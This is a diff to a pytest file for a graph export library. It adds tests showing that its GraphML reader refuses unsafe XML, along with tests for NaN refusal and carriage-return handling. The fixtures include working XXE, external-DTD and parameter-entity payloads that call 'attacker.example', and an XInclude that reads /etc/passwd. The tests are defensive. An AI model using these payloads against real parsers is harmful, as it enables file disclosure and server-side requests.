@@ -117,12 +117,66 @@ EXTERNAL_ENTITY = """<?xml version="1.0"?>
 <node id="&xxe;"/></graph></graphml>"""
 
 
-@pytest.mark.parametrize("payload", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["billion-laughs", "external-entity"])
-def test_read_graph_refuses_unsafe_graphml(tmp_path, payload):
+EXTERNAL_DTD = """<?xml version="1.0"?>
+<!DOCTYPE graphml SYSTEM "http://attacker.example/evil.dtd">
+<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph edgedefault="directed"><node id="a"/></graph></graphml>"""
+
+PARAMETER_ENTITY = """<?xml version="1.0"?>
+<!DOCTYPE graphml [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
+<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph edgedefault="directed"><node id="a"/></graph></graphml>"""
+
+XINCLUDE = """<?xml version="1.0"?>
+<graphml xmlns="http://graphml.graphdrawing.org/xmlns" xmlns:xi="http://www.w3.org/2001/XInclude">
+<key id="d0" for="node" attr.name="name" attr.type="string"/>
+<graph edgedefault="directed"><node id="a"><data key="d0"><xi:include href="file:///etc/passwd" parse="text"/></data>
+</node></graph></graphml>"""
+
+
+@pytest.mark.parametrize(
+    ("payload", "reason"),
+    [
+        (BILLION_LAUGHS, "entity declarations .*billion laughs"),
+        (EXTERNAL_ENTITY, "an external entity"),
+        (EXTERNAL_DTD, r"a DTD \(<!DOCTYPE"),
+        (PARAMETER_ENTITY, "an external entity"),
+        (XINCLUDE, "XInclude"),
+    ],
+    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "xinclude"],
+)
+def test_read_graph_refuses_unsafe_graphml(tmp_path, payload, reason):
     path = tmp_path / "evil.graphml"
     path.write_text(payload)
-    with pytest.raises(GraphFormatError, match=r"evil\.graphml: unsafe GraphML refused"):
+    with pytest.raises(GraphFormatError, match=r"evil\.graphml: unsafe GraphML refused.*" + reason) as info:
         read_graph(path)
+    assert "root:" not in str(info.value)  # nothing of /etc/passwd was read into the message
+    assert "\n" not in str(info.value)
+
+
+def test_read_graph_refuses_unsafe_graphml_whatever_the_file_is_called(tmp_path):
+    path = tmp_path / "graph.json"
+    path.write_text(BILLION_LAUGHS)
+    with pytest.raises(GraphFormatError, match="unsafe GraphML refused"):
+        read_graph(path)
+
+
+NAN_REFUSED = r"refusing to write .*(NaN or Infinity at 'score'|\.score: Input should be a finite number)"
+
+
+def test_write_refuses_nan_and_infinity_in_every_format(tmp_path):
+    G = _graph()
+    G.edges[SYR, RUS, "arms_buyer_of"]["score"] = float("nan")
+    for fmt in ("json", "graphml", "gexf", "csv", "cypher"):
+        with pytest.raises(GraphFormatError, match=NAN_REFUSED):
+            export_graph(G, fmt, tmp_path / f"g.{fmt}")
+    assert not list(tmp_path.iterdir())
+
+
+def test_write_json_refuses_a_graph_its_reader_would_refuse(tmp_path):
+    G = _graph()
+    G.nodes[SYR]["aliases"] = 5
+    with pytest.raises(GraphFormatError, match=r"refusing to write .*nodes\[\d+\] \(country:SYR\)\.aliases"):
+        write_json(G, tmp_path / "g.json")
+    assert not list(tmp_path.iterdir())
 
 
 @pytest.mark.parametrize(
@@ -238,3 +292,12 @@ def test_write_graphml_edge_ids_are_unique(tmp_path):
     ids = [e.get("id") for e in root.iter("{http://graphml.graphdrawing.org/xmlns}edge")]
     assert len(ids) == G.number_of_edges() == len(set(ids))
     assert set(read_graph(tmp_path / "g.graphml").edges(keys=True)) == set(G.edges(keys=True))
+
+
+def test_graphml_keeps_carriage_returns(tmp_path):
+    # found by the property tests: XML parsers turn a raw CR into LF; geokg writes it as &#13;
+    G = nx.MultiDiGraph()
+    G.add_node(SYR, name="Line\r\nbreak\rhere", aliases=["a\rb"])
+    H = read_graph(write_graphml(G, tmp_path / "g.graphml"))
+    assert H.nodes[SYR]["name"] == "Line\r\nbreak\rhere"
+    assert nx.read_graphml(tmp_path / "g.graphml").nodes[SYR]["name"] == "Line\r\nbreak\rhere"
